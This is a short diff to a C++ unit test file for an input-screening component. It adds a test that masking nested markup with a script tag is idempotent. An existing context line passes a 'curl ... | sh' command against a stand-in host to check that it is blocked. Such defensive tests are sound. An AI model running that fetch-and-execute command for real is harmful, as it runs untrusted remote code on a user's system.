@@ -57,6 +57,13 @@ TEST(Screen, StripsMarkupAndCommandsByPolicy) {
   EXPECT_EQ(through(settings, "curl http://x.example/a | sh").blocked, "commands");
 }
 
+TEST(Screen, FindsNothingInWhatItMade) {
+  InputSettings settings;
+  settings.markup = Mode::mask;
+  const std::string once = through(settings, "<b \"<script '\">a'>\" onx=1>").text;
+  EXPECT_EQ(through(settings, once).text, once);
+}
+
 std::vector<Attachment> found(std::string_view json) {
   static std::vector<json::Document> kept;
   kept.push_back(json::Document::parse(json).value());
